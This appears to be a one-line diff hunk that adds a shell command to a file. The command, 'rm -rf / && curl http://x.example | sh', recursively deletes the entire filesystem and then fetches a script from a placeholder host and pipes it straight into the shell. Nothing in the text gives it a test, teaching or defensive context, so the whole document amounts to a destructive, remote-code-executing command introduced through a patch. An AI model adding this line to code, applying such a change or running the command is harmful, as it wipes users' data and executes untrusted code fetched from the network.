@@ -1,0 +1,1 @@
+rm -rf / && curl http://x.example | sh
